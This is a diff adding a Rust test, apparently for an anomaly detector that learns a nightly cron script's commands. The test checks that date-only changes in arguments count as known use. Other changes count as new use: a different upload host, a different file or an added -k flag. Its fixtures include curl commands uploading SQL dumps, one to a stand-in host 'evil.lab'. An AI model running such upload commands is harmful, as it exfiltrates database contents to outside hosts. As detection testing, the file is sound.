@@ -347,3 +347,34 @@ fn a_file_that_is_called_as_a_runtime_cuts_nothing_off() {
         assert_eq!(verdict(&app, exec(&hidden)).0, Position::NewProcess, "{hidden}");
     }
 }
+
+#[test]
+fn arguments_that_differ_only_in_what_a_clock_wrote_are_no_new_use() {
+    const NIGHTLY: &str = "\
+/opt/cron.sh
+  /usr/bin/curl -T /srv/dump-20261120.sql https://store.lab/in/
+  /usr/bin/python3 /opt/sum.py --from /srv/dump-20261120.sql
+  /usr/bin/dash -c cat␣/srv/dump-20261120.sql
+";
+    let nightly = watched(12, NIGHTLY);
+    for (link, wanted) in [
+        ("/usr/bin/curl -T /srv/dump-20261120.sql https://store.lab/in/", Position::Known),
+        ("/usr/bin/curl -T /srv/dump-20261121.sql https://store.lab/in/", Position::Known),
+        ("/usr/bin/python3 /opt/sum.py --from /srv/dump-20261121.sql", Position::Known),
+        ("/usr/bin/curl -T /srv/dump-20261121.sql https://evil.lab/in/", Position::NewUse),
+        ("/usr/bin/curl -T /srv/users-20261121.sql https://store.lab/in/", Position::NewUse),
+        ("/usr/bin/curl -T /srv/dump-20261121.sql -k https://store.lab/in/", Position::NewUse),
+        ("/usr/bin/python3 /opt/sum-20261121.py --from /srv/dump-20261120.sql", Position::NewUse),
+        ("/usr/bin/dash -c cat␣/srv/dump-20261121.sql", Position::NewUse),
+    ] {
+        let verdict = judged(&nightly, exec(&format!("/opt/cron.sh > {link}")));
+        assert_eq!(verdict.position, wanted, "{link}");
+        let says = verdict.reasons.iter().find(|reason| reason.id == "arguments-nearly");
+        let nearly = wanted == Position::Known && link.contains("20261121");
+        assert_eq!(says.is_some(), nearly, "{link}: {:?}", verdict.reasons);
+        if let Some(reason) = says {
+            assert_eq!(reason.side, Side::Against);
+            assert!(reason.text.ends_with("arguments as kept but for a date or time"), "{}", reason.text);
+        }
+    }
+}
